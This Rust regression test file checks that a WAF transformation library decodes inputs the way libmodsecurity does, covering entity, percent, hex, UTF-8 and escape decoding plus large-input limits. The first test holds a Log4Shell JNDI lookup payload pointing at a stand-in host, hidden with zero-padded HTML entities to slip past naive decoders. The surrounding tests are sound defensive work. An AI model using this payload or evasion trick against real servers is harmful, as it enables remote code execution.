//! Regression tests for known bypass and crash shapes. Every expected value was checked against
//! libmodsecurity 3.0.9 (`oracle/`), and the test `modsecurity_oracle` re-checks these shapes
//! among thousands of others on every run where libmodsecurity is installed.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use palisade_transform::{Chain, TransformContext, TransformId, apply};

fn t(id: TransformId, input: &[u8]) -> Vec<u8> {
    apply(id, input, &TransformContext::default()).into_owned()
}

#[test]
fn html_entity_decode_reads_long_zero_padded_entities() {
    use TransformId::HtmlEntityDecode as H;
    // CVE-2025-27110: v3.0.12 and v3.0.13 read at most 3 decimal digits and left `\0` + digits.
    assert_eq!(
        t(H, b"&#00000000000000000000000000000000000000000000000123;"),
        b"{"
    );
    assert_eq!(
        t(
            H,
            b"&#x24;&#00000000000000000000000000000000000000000000000123;jndi:ldap://evil.om/w}"
        ),
        b"${jndi:ldap://evil.om/w}"
    );
    assert_eq!(
        t(
            H,
            b"&#0000000000000000000000000000060;&#x00000000000000000000003e;"
        ),
        b"<>"
    );
    // The CRS test 944150-23 chain: the value a Log4Shell rule sees.
    let chain = Chain::parse("t:none,t:urlDecodeUni,t:jsDecode,t:htmlEntityDecode").unwrap();
    let ua = b"&#x24;&#00000000000000000000000000000000000000000000000123;jndi:ldap://evil.om/w}";
    assert_eq!(
        &*chain.apply(ua, &TransformContext::default()),
        b"${jndi:ldap://evil.om/w}"
    );
}

#[test]
fn html_entity_decode_leaves_truncated_entities() {
    use TransformId::HtmlEntityDecode as H;
    for s in [&b"&"[..], b"&#", b"&#x", b"&#x;", b"&l", b"&;", b"a&#"] {
        assert_eq!(t(H, s), s, "{}", s.escape_ascii());
    }
    assert_eq!(t(H, b"&lt"), b"<");
    assert_eq!(t(H, b"&#65"), b"A");
    assert_eq!(t(H, b"&#x41"), b"A");
    assert_eq!(t(H, b"&amp;lt;"), b"&lt;");
}

#[test]
fn hex_decode_of_odd_lengths_returns() {
    use TransformId::HexDecode as X;
    // CVE-2026-30923: on a one-byte value v3/master reads past its buffer (fixed in 3.0.15).
    assert_eq!(t(X, b"a"), b"");
    assert_eq!(t(X, b"0"), b"");
    assert_eq!(t(X, b"abc"), b"\xab");
    assert_eq!(t(X, b"zz9"), b"S");
    assert_eq!(t(X, b""), b"");
}

#[test]
fn invalid_percent_escapes_stay() {
    use TransformId::{UrlDecode as U, UrlDecodeUni as Uni};
    for s in [&b"%"[..], b"%4", b"%4g", b"a%2", b"%u0041"] {
        assert_eq!(t(U, s), s, "{}", s.escape_ascii());
    }
    assert_eq!(t(U, b"%%41"), b"%A");
    assert_eq!(t(U, b"%+"), b"% ");
    for s in [&b"%u"[..], b"%u4", b"%u004", b"%u004g", b"%uzz41"] {
        assert_eq!(t(Uni, s), s, "{}", s.escape_ascii());
    }
    assert_eq!(t(Uni, b"%U0041"), b"A");
    assert_eq!(t(Uni, b"%uFF1C%uff0e"), b"<.");
    assert_eq!(t(Uni, b"%u%41"), b"%uA");
}

#[test]
fn invalid_utf8_is_handled_as_modsecurity_does() {
    use TransformId::Utf8ToUnicode as E;
    assert_eq!(t(E, b"\xc3"), b"");
    assert_eq!(t(E, b"a\xc3("), b"a(");
    assert_eq!(t(E, b"\xe2\x82"), b"\x82");
    assert_eq!(t(E, b"\xf0\x9f\x98"), b"\x9f\x98");
    assert_eq!(t(E, b"\xc0\xaf"), b"%u002f\xc0");
    assert_eq!(t(E, b"\xed\xa0\x80"), b"%ud800\xed");
    assert_eq!(t(E, b"\xfe\xff"), b"\xfe\xff");
    assert_eq!(t(E, b"\xf4\x90\x80\x80"), b"%u110000");
}

#[test]
fn truncated_escapes_in_other_decoders() {
    assert_eq!(t(TransformId::JsDecode, b"\\"), b"\\");
    assert_eq!(t(TransformId::JsDecode, b"\\u00"), b"u00");
    assert_eq!(t(TransformId::JsDecode, b"\\x4"), b"x4");
    assert_eq!(t(TransformId::JsDecode, b"\\u00e9"), b"\xe9");
    assert_eq!(t(TransformId::CssDecode, b"\\"), b"");
    assert_eq!(t(TransformId::CssDecode, b"\\4"), b"\x04");
    assert_eq!(t(TransformId::CssDecode, b"\\00003c"), b"<");
    assert_eq!(t(TransformId::EscapeSeqDecode, b"\\"), b"\\");
}

#[test]
fn huge_inputs_do_not_blow_up() {
    // Long runs of every trigger byte: linear time, no recursion, no overflow.
    let ctx = TransformContext::default();
    for pattern in [
        &b"&#"[..],
        b"%u",
        b"\\",
        b"/..",
        b"/*",
        b"\xc3",
        b"0x",
        b"&#0",
    ] {
        let input = pattern.repeat(100_000);
        for id in TransformId::ALL {
            let out = apply(id, &input, &ctx);
            assert!(out.len() <= input.len() * 8, "{id}");
        }
    }
}
